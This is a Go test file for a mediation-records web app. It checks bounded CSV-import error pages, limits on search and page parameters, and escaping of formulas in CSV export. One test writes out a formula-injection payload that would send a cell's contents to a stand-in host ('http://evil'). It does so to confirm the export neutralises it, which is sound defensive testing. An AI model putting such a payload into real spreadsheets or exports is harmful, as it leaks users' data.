package web_test

import (
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
)

// An upload of many bad rows, each with a long bad cell (the 410 KB file made a 53 MB
// page), lists the first 1,000 errors with the total, cells clipped (issue 9, items 1 and 11).
func TestImportErrorPageBounded(t *testing.T) {
	eachDB(t, func(t *testing.T, e *env) {
		c := e.login(t, "clerk")
		var b strings.Builder
		b.WriteString("编号,受理日期,调解组织,纠纷类型,调解结果\n")
		long := strings.Repeat("吵", 300)
		for i := 0; i < 1500; i++ {
			fmt.Fprintf(&b, "BIG-%d,2024-02-30,%s,%s,调解中\n", i, ownComm, long) // two bad cells a row
		}
		status, page := c.upload("/records/mediation/import", "大.csv", []byte(b.String()), nil)
		if status != http.StatusUnprocessableEntity || !strings.Contains(page, "有 3000 处错误，未写入任何数据") ||
			!strings.Contains(page, "共 3000 处，只列出前 1000 处") {
			t.Fatalf("%d %s", status, snippet(page))
		}
		if n := strings.Count(page, "<tr><td>第 "); n != 1000 {
			t.Errorf("%d errors listed, want 1000", n)
		}
		if strings.Contains(page, strings.Repeat("吵", 101)) {
			t.Error("a long cell is repeated in full")
		}
		if len(page) > 1<<20 {
			t.Errorf("the error page has %d bytes for a %d-byte upload", len(page), b.Len())
		}
	})
}

// The list's search and page number are bounded, in pages and the API (item 11).
func TestListRequestBounds(t *testing.T) {
	eachDB(t, func(t *testing.T, e *env) {
		c := e.login(t, "clerk")
		for _, r := range []struct {
			path   string
			status int
			want   string
		}{
			{"/records/mediation?q=" + url.QueryEscape(strings.Repeat("王", 100)), http.StatusOK, ""},
			{"/records/mediation?q=" + url.QueryEscape(strings.Repeat("王", 101)), http.StatusBadRequest, "搜索词最多 100 个字，现有 101 个字"},
			{"/records/mediation?page=10000", http.StatusOK, ""},
			{"/records/mediation?page=10001", http.StatusBadRequest, "页码应为 1–10000 的整数"},
			{"/records/mediation?page=99999999999999999999", http.StatusBadRequest, "页码应为"},
			{"/records/mediation?page=-1", http.StatusBadRequest, "页码应为"},
			{"/records/mediation/export.csv?q=" + url.QueryEscape(strings.Repeat("王", 101)), http.StatusBadRequest, "搜索词最多"},
			{"/api/v1/records/mediation?offset=1000001", http.StatusBadRequest, "offset 应为 0–1000000"},
			{"/api/v1/records/mediation?q=" + strings.Repeat("a", 101), http.StatusBadRequest, "搜索词最多"},
		} {
			status, body := c.get(r.path)
			if status != r.status || !strings.Contains(body, r.want) {
				t.Errorf("%s: %d %s", r.path[:min(len(r.path), 60)], status, snippet(body))
			}
		}
	})
}

// A CSV export from the web quotes a value that would run as a formula, and the exported file
// re-imports with nothing changed (item 4).
func TestCSVExportQuotesFormulas(t *testing.T) {
	eachDB(t, func(t *testing.T, e *env) {
		c := e.login(t, "clerk")
		id := e.ids["M-OWN"]
		r, err := e.st.Record(t.Context(), systemScope(), id)
		if err != nil {
			t.Fatal(err)
		}
		v := r.Values.Clone()
		v["mediator"] = `=HYPERLINK("http://evil/?"&A2,"详情")`
		v["summary"] = "-5"
		if _, err := e.st.UpdateRecord(t.Context(), system, systemScope(), id, r.Version, v); err != nil {
			t.Fatal(err)
		}
		status, csv := c.get("/records/mediation/export.csv")
		if status != http.StatusOK || !strings.Contains(csv, `"'=HYPERLINK(""http://evil/?""&A2,""详情"")"`) || !strings.Contains(csv, ",'-5,") {
			t.Fatalf("export: %d %s", status, snippet(csv))
		}
		status, page := c.upload("/records/mediation/import", "导出.csv", []byte(csv), nil)
		if status != http.StatusSeeOther {
			t.Fatalf("re-import: %d %s", status, snippet(page))
		}
		if _, list := c.get("/records/mediation"); !strings.Contains(list, "新增 0 条，更新 0 条，未变 1 条") {
			t.Errorf("the re-import changed something: %s", snippet(list))
		}
	})
}
